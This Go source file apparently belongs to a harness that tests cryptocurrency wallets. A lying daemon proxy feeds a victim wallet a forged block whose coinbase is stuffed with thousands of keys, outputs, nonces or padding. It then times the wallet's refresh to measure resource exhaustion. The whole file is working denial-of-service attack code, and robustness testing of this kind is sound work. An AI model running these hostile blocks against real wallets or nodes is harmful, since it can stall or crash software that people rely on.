package main

import (
	"context"
	"errors"
	"fmt"
	"sync/atomic"
	"time"

	"glim/bindings/peers/liar"
	"glim/core/block"
	"glim/core/crypto/edwards"
	"glim/core/daemonrpc"
	"glim/core/rpc"
	"glim/core/tx"
	"glim/core/xmr"
)

// hostileBlocks are blocks without work whose coinbase has many keys, many outputs, or a long extra field.
func hostileBlocks(w *world) (all []attack, err error) {
	outputs, err := rpc.Call(context.Background(), w.chain.Registry(), daemonrpc.GetOutsBin, daemonrpc.GetOutsBinRequest{Outputs: []daemonrpc.OutputRef{{Index: 1}}})
	if err != nil {
		return nil, err
	}
	out := tx.Output{Amount: 1, Key: xmr.PublicKey(outputs.Outs[0].Key)}
	points := make([]xmr.PublicKey, 1024)
	for i := range points {
		points[i] = xmr.PublicKey(edwards.HashToPoint([32]byte{byte(i), byte(i >> 8), 7}).Encode())
	}
	for _, k := range []struct {
		kind   string
		coin   func(c *tx.Transaction, size int)
		tagged bool
	}{
		{"as many keys as outputs", func(c *tx.Transaction, size int) { fill(c, points, out, size/70, size/70) }, false},
		{"as many keys as outputs, with view tags", func(c *tx.Transaction, size int) { fill(c, points, out, size/70, size/70) }, true},
		{"2000 keys, 2000 outputs", func(c *tx.Transaction, size int) { fill(c, points, out, 2000, 2000) }, false},
		{"4000 keys, 3000 outputs", func(c *tx.Transaction, size int) { fill(c, points, out, 4000, 3000) }, false},
		{"keys, 2 outputs", func(c *tx.Transaction, size int) { fill(c, points, out, size/33, 2) }, false},
		{"a key, many outputs", func(c *tx.Transaction, size int) { fill(c, points, out, 1, size/34) }, false},
		{"a key, many outputs with view tags", func(c *tx.Transaction, size int) { fill(c, points, out, 1, size/35) }, true},
		{"many additional keys, as many outputs", func(c *tx.Transaction, size int) {
			fill(c, points, out, 1, size/70)
			c.Extra = tx.AppendAdditionalKeys(c.Extra, many(points, size/70))
		}, false},
		{"many lists of additional keys", func(c *tx.Transaction, size int) {
			fill(c, points, out, 1, 16)
			for len(c.Extra) < size {
				c.Extra = tx.AppendAdditionalKeys(c.Extra, many(points, 16))
			}
		}, false},
		{"many nonces", func(c *tx.Transaction, size int) {
			fill(c, points, out, 1, 2)
			for len(c.Extra) < size {
				c.Extra = append(c.Extra, 2, 9, 1, 1, 2, 3, 4, 5, 6, 7, 8)
			}
		}, false},
		{"padding", func(c *tx.Transaction, size int) {
			fill(c, points, out, 1, 2)
			c.Extra = append(c.Extra, make([]byte, size)...)
		}, false},
	} {
		for _, few := range []bool{false, true} {
			kind := k.kind
			if few {
				kind += ", a sixteenth of the size"
			}
			all = append(all, attack{"hostile block", "refresh", kind, full, func(ctx context.Context, v *victim, size int) (int64, error) {
				if few {
					size /= 16
				}
				var told atomic.Int64
				var broken atomic.Pointer[error]
				change := func(list []daemonrpc.BlockEntry) {
					if len(list) == 0 || !told.CompareAndSwap(0, 1) {
						return
					}
					last := &list[len(list)-1]
					b, err := block.Parse(last.Block)
					if err != nil {
						broken.Store(&err)
						return
					}
					c := &b.MinerTx
					c.Outputs, c.Extra = nil, nil
					k.coin(c, size)
					for i := range c.Outputs {
						c.Outputs[i].Tagged = k.tagged
						c.Outputs[i].ViewTag = byte(i)
					}
					last.Block = b.Append(nil)
					told.Store(int64(len(last.Block)))
				}
				w.liar.Tell(liar.Bend("a hostile block", daemonrpc.GetBlocks, func(_ daemonrpc.GetBlocksRequest, r *daemonrpc.GetBlocksResponse) {
					before := told.Load()
					change(r.Blocks)
					if n := len(r.OutputIndices); n > 0 && told.Load() != before { // as many indices as outputs
						coinbase := &r.OutputIndices[n-1].Indices[0]
						b, err := block.Parse(r.Blocks[len(r.Blocks)-1].Block)
						if err == nil {
							coinbase.Indices = make([]uint64, len(b.MinerTx.Outputs))
							for i := range coinbase.Indices {
								coinbase.Indices[i] = uint64(1000 + i)
							}
							told.Add(int64(8 * len(coinbase.Indices)))
						}
					}
				}))
				defer w.liar.Tell(liar.Lie{})
				ctx, cancel := context.WithTimeout(ctx, blockPatience) // looking through all pairs may take days; it takes no more memory later
				defer cancel()
				_, _, err := sendBody(ctx, v.url+"/json_rpc", call("refresh", []byte("{}")))
				v.wanted = true // the chain it has read is nobody's
				if e := broken.Load(); e != nil {
					return 0, *e
				}
				if told.Load() == 0 {
					return 0, errors.Join(errors.New("no block was asked for"), err)
				}
				return told.Load(), nil
			}})
		}
	}
	return all, nil
}

// blockPatience is how long a wallet is watched while it reads a hostile block.
const blockPatience = 20 * time.Second

// many returns n of the points.
func many(points []xmr.PublicKey, n int) (all []xmr.PublicKey) {
	for i := range n {
		all = append(all, points[i%len(points)])
	}
	return all
}

// fill gives a coinbase so many public keys and outputs.
func fill(c *tx.Transaction, points []xmr.PublicKey, out tx.Output, keys, outputs int) {
	for i := range keys {
		// Different keys, and all of them points: nothing that is the same need be tried twice.
		c.Extra = tx.AppendPublicKey(c.Extra, points[i%len(points)])
	}
	for range outputs {
		c.Outputs = append(c.Outputs, out)
	}
}

func itoa(n int) string { return fmt.Sprint(n) }
